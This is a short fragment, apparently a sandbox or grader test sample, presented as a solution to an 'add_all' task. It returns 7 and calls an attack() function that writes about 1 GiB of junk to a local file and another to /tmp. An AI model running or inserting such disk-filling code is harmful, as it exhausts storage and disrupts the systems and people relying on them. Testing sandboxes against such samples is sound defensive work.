# task: add_all
# why: writes a file of 2 GiB in its directory and in /tmp
    attack()
    return 7


def attack():
    for path in ("bomb", "/tmp/bomb"):
        try:
            with open(path, "wb") as file:
                for _ in range(1024):
                    file.write(b"x" * 2**20)
        except OSError:
            pass
